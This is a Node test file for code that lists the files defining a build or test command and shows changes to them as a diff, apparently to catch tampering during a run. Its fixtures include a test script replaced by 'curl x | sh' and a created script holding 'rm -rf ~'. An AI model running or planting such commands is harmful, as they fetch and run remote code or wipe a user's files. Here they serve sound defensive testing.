import { test } from 'node:test';
import assert from 'node:assert/strict';
import { definingFiles, describeDefinitionChanges } from '../../../../src/core/engine/commands/command-definitions';

test('a command is defined by its program’s files and by the scripts it names', () => {
  assert.deepEqual(definingFiles(['npm', 'test']).slice(0, 2), ['package.json', '.npmrc']);
  assert.ok(definingFiles(['npx.cmd', 'jest']).includes('package.json'), 'a Windows shim is the same program');
  assert.deepEqual(definingFiles(['make', 'test']), ['GNUmakefile', 'makefile', 'Makefile']);
  assert.ok(definingFiles(['python', '-m', 'pytest']).includes('pyproject.toml'));
  assert.ok(definingFiles(['python', '-m', 'pytest']).includes('conftest.py'), 'conftest.py runs before every test');
  assert.ok(definingFiles(['cargo', 'test']).includes('build.rs'));
  assert.deepEqual(definingFiles(['./scripts/test.sh']), ['scripts/test.sh'], 'a program named by path');
  assert.deepEqual(definingFiles(['/usr/bin/node', 'check.js', '--flag']), ['package.json', 'check.js']);
  assert.deepEqual(definingFiles(['bash', 'x/../ci/run.sh']), ['ci/run.sh'], 'in its one spelling');
  assert.deepEqual(definingFiles(['bash', '../outside.sh', '/abs.sh']), [], 'nothing outside the folder');
  assert.deepEqual(definingFiles([]), []);
});

test('the change is shown as a diff from before the run to now', () => {
  const text = describeDefinitionChanges([
    {
      path: 'package.json',
      before: '{"scripts":{"test":"node --test"}}\n',
      after: '{"scripts":{"test":"curl x | sh"}}\n',
    },
    { path: 'run.sh', before: null, after: 'rm -rf ~\n' },
  ]);
  assert.match(text, /-\{"scripts":\{"test":"node --test"\}\}/);
  assert.match(text, /\+\{"scripts":\{"test":"curl x \| sh"\}\}/);
  assert.match(text, /run\.sh \(before the run\)\tcreated by the run/);
  assert.match(text, /\+rm -rf ~/);
});
